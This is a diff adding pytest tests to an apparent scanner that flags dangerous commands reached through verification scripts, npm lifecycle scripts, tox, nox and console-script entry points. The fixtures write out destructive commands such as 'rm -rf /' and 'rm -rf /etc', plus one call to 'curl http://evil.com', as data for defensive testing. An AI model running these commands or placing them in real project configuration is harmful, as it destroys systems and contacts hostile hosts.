@@ -1,5 +1,7 @@
 """What a verification script runs is scanned too; what it only tests is not."""
 
+import pytest
+
 from refute.scan.scanner import scan_files
 
 
@@ -62,6 +64,59 @@ def test_recipe_of_the_target_that_make_builds_is_scanned() -> None:
     makefile = "X = rm -rf\nall: clean\n\techo hi\nclean:\n\t@$(X) /etc\nother:\n\treboot\n"
     result = scan_files({"verify.sh": b"make\n", "Makefile": makefile.encode()}, ["verify.sh"])
     assert [(finding.path, finding.line) for finding in result.blocking] == [("Makefile", 5)]
+
+
+def test_script_fed_to_an_interpreter_is_scanned() -> None:
+    files = {"verify.sh": "cat tools/x.sh | bash\npython - < smoke.py\n", "tools/x.sh": "rm -rf /\n"}
+    assert _blocked_paths({**files, "smoke.py": "import os\nos.system('rm -rf /')\n"}) == {"tools/x.sh", "smoke.py"}
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("pyproject.toml", '[project.scripts]\nmytool = "pkg.cli:main"\n'),
+        ("pyproject.toml", '[tool.poetry.scripts]\nmytool = "pkg.cli:main"\n'),
+        ("setup.cfg", "[options.entry_points]\nconsole_scripts =\n  mytool = pkg.cli:main\n"),
+    ],
+)
+def test_console_script_of_the_workspace_is_scanned(name: str, text: str) -> None:
+    files = {"verify.sh": "mytool --help\n", name: text, "src/pkg/cli.py": "import os\nos.system('rm -rf /')\n"}
+    assert _blocked_paths(files) == {"src/pkg/cli.py"}
+
+
+@pytest.mark.parametrize("command", ["npm test", "npm run test", "yarn test", "npm ci"])
+def test_npm_script_is_scanned_where_it_stands(command: str) -> None:
+    package = '{\n"name": "x",\n"scripts": {\n"pretest": "rm -rf /etc",\n"prepare": "rm -rf /usr"\n}\n}\n'
+    result = scan_files({"verify.sh": command.encode(), "package.json": package.encode()}, ["verify.sh"])
+    assert [(f.path, f.line) for f in result.blocking] == [("package.json", 5 if command == "npm ci" else 4)]
+
+
+def test_npm_script_that_runs_another_is_followed() -> None:
+    package = '{"scripts": {"a": "npm run b", "b": "npm run a && curl http://evil.com"}}'
+    assert _blocked_paths({"verify.sh": "npm run a\n", "package.json": package}) == {"package.json"}
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("tox.ini", "[testenv]\ncommands =\n    pytest {posargs:tests}\n    sh -c 'rm -rf /etc'\n"),
+        ("setup.cfg", "[tox:testenv]\ncommands =\n    sh -c 'rm -rf /etc'\n"),
+        ("pyproject.toml", '[tool.tox.env_run_base]\ncommands = [["rm", "-rf", "/etc"]]\n'),
+        ("pyproject.toml", '[tool.tox]\nlegacy_tox_ini = "[testenv]\\ncommands = rm -rf /etc"\n'),
+    ],
+)
+def test_commands_of_tox_are_scanned(name: str, text: str) -> None:
+    assert _blocked_paths({"verify.sh": "tox -q\n", name: text}) == {name}
+
+
+def test_session_file_of_nox_is_scanned() -> None:
+    assert _blocked_paths({"verify.sh": "nox\n", "noxfile.py": "import os\nos.system('rm -rf /')\n"}) == {"noxfile.py"}
+
+
+@pytest.mark.parametrize("text", ["{", "[", "[testenv\n", "[[[[", '{"scripts": 3}', "{" * 50_000])
+def test_unreadable_configuration_runs_nothing(text: str) -> None:
+    files = dict.fromkeys(["package.json", "tox.ini", "setup.cfg", "pyproject.toml"], text)
+    assert _blocked_paths({"verify.sh": "npm test\ntox\nmytool\n", **files}) == set()
 
 
 def test_scripts_that_run_each_other_are_scanned_once() -> None:
